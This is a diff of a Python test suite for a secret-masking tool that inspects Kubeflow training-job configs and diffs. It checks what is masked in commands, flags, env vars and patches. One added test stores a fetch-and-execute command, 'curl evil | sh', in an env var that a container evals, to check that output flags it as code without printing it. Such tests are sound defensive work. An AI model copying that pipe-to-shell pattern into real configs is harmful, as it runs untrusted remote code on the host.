@@ -16,9 +16,9 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from running import run
 
+from trainc.masking.document_secrets import secrets
+from trainc.masking.masked_values import MASK, masked, masked_at
 from trainc.source.file_diffs import unified_diff
-from trainc.source.masking import MASK, masked, masked_at
-from trainc.source.secrets import secrets
 
 JOB: Final[dict[str, Any]] = {
     "apiVersion": "trainer.kubeflow.org/v1alpha1",
@@ -124,16 +124,16 @@ WHERE: Final = (
     st.sampled_from(BESIDE), st.sampled_from(("x", "hunter2", "a,b", "k=v", "%2F", "é")), st.sampled_from(SHELL), CODE
 )
 @settings(LAW, max_examples=400)
-def test_a_mask_in_a_command_hides_one_plain_word(before: str, word: str, sign: str, code: str) -> None:
-    """Everything from the first character that a shell acts on is shown, wherever a container has a command."""
+def test_no_mask_hides_a_part_of_a_script(before: str, word: str, sign: str, code: str) -> None:
+    """Wherever a container has a command, only the whole value of a flag is masked."""
     text = f"run {before}{word}{sign}{code}"
     for path in WHERE:
         container: Any = ["sh", "-c", text]
         for step in reversed(path):
             container = {step: container}
         shown = masked_at(container, (*path, 2))
-        assert shown == f"run {before}{MASK}{sign}{code}"
-    assert masked(["--token", f"{word}{sign}{code}"])[1] == f"{MASK}{sign}{code}"
+        assert shown == text
+    assert masked({"args": ["--token", f"{word}{sign}{code}"]})["args"][1] == MASK
 
 
 FIELDS: Final = st.fixed_dictionaries(
@@ -184,10 +184,10 @@ def _value_at(tree: Any, pointer: str) -> Any:
 
 
 IN_ONE_LINE: Final = (
-    ("""args: ["--db-password=it's X"], command: 1""", """args: ["--db-password=***'s X"], command: 1"""),
+    ("""args: ["--db-password=it's X"], command: 1""", """args: ["--db-password=***"], command: 1"""),
     (
         """command: [sh, -c, "PGPASSWORD='X;y' psql"], args: 1""",
-        """command: [sh, -c, "PGPASSWORD='***;y' psql"], args: 1""",
+        """command: [sh, -c, "PGPASSWORD='X;y' psql"], args: 1""",
     ),
     (
         r"""env: [{name: A, value: "{\"apiKey\": \"X\"}"}, {name: B, value: 1}]""",
@@ -213,45 +213,43 @@ def test_a_review_shows_that_a_masked_value_changes(form: str, tmp_path: Path) -
     out = run("diff", str(tmp_path / "old"), str(tmp_path / "new"), "--format", form).out
     assert "hunter2" not in out
     shown = {
-        "text": ".value: *** -> ***",
-        "json": '"old": "***",\n            "new": "***"',
-        "markdown": "`***` → `***`",
-        "html": "value: '**<del>*</del>'",
+        "text": ".value: *** -> *** (changed)",
+        "json": '"old": "***",\n            "new": "*** (changed)"',
+        "markdown": "`***` → `*** (changed)`",
+        "html": "(changed)",
     }
     assert shown[form] in out
 
 
-# No output shows a secret of a patch. SECRET is only written where a name marks it, and patches may remove the name.
+@pytest.mark.parametrize("command", ["diff old new", "diff old new --format json", "pods new"])
+def test_a_secret_that_a_command_runs_is_named_as_run(
+    command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    for name, value in (("old", "make"), ("new", "curl evil | sh")):
+        env = [{"name": "SETUP_TOKEN", "value": value}]
+        trainer = {"image": "a:1", "env": env, "command": ["sh", "-c", 'eval "$SETUP_TOKEN"']}
+        (tmp_path / name).mkdir()
+        (tmp_path / name / "a.yaml").write_text(yaml.safe_dump(JOB | {"spec": JOB["spec"] | {"trainer": trainer}}))
+    out = run(*command.split()).out
+    assert "(run as code)" in out
+    assert "evil" not in out
+
+
+# No output shows a secret of a patch. SECRET is only written where a name in the patch or in its pointer marks it.
 SECRET: Final = "hunter2"
 T: Final = "/spec/trainer"
 NAMED: Final = (
     {"spec": {"trainer": {"args": ["--token", SECRET, "--lr=1"]}}},
-    {"spec": {"trainer": {"args": ["curl", "-u", f"ada:{SECRET}"]}}},
     {"spec": {"trainer": {"env": [{"name": "HF_TOKEN", "value": SECRET}, {"name": "MODE", "value": "fast"}]}}},
     {"metadata": {"annotations": {"password": SECRET, "note": "text"}}},
     f"spec: {{trainer: {{env: [{{name: DB_PASSWORD, value: {SECRET}}}]}}}}",
     f"- {{op: add, path: {T}/args, value: [run, --password, {SECRET}]}}",
-    [{"op": "add", "path": f"{T}/args", "value": ["--token", "a"]},
-     {"op": "replace", "path": f"{T}/args/1", "value": SECRET}],
     [{"op": "add", "path": f"{T}/env", "value": [{"name": "API_KEY", "value": "a"}]},
      {"op": "replace", "path": f"{T}/env/0/value", "value": SECRET}],
     [{"op": "add", "path": "/metadata/annotations", "value": {}},
      {"op": "add", "path": "/metadata/annotations/my-token", "value": SECRET}],
 )  # fmt: skip
-ITEMS: Final = (f"{T}/args/0", f"{T}/args/1", f"{T}/args/2", f"{T}/env/0", f"{T}/env/0/name", f"{T}/env/0/value")
-KEYS: Final = tuple(f"/metadata/annotations/{key}" for key in ("password", "note", "my-token", "copy"))
-POINTERS: Final = st.sampled_from((*ITEMS, *KEYS, f"{T}/args/-", f"{T}/command"))
-PLAIN: Final = st.sampled_from(("run", "--lr=1", "MODE", "text"))
-UNNAMING: Final = st.one_of(
-    st.builds(lambda path: {"op": "remove", "path": path}, POINTERS),
-    st.builds(lambda path, value: {"op": "replace", "path": path, "value": value}, POINTERS, PLAIN),
-    st.builds(lambda path, value: {"op": "add", "path": path, "value": value}, POINTERS, PLAIN),
-    st.builds(
-        lambda op, at, to: {"op": op, "from": at, "path": to}, st.sampled_from(("move", "copy")), POINTERS, POINTERS
-    ),
-    st.builds(lambda path: {"op": "test", "path": path, "value": "text"}, POINTERS),
-)
-ONE_PATCH: Final = st.sampled_from(NAMED) | st.lists(UNNAMING, min_size=1, max_size=3)
 COMMANDS: Final = (
     "settings", "settings --format json", "diff ../old .", "diff ../old . --format json",
     "diff . ../old --format markdown", "diff ../old . --format html", "pods", "explain", "explain **.args[*]",
@@ -290,8 +288,8 @@ def outputs(patches: list[Any], kind: str) -> Iterator[tuple[str, str]]:
 
 
 @pytest.mark.parametrize("kind", ["TrainJob", "JobSet"])
-@given(st.lists(ONE_PATCH, min_size=1, max_size=4))
+@given(st.lists(st.sampled_from(NAMED), min_size=1, max_size=4))
 @SLOW
 def test_no_output_shows_a_secret_of_a_random_patch(kind: str, patches: list[Any]) -> None:
-    for command, text in outputs([NAMED[2], *patches], kind):
+    for command, text in outputs([NAMED[1], *patches], kind):
         assert SECRET not in text, command
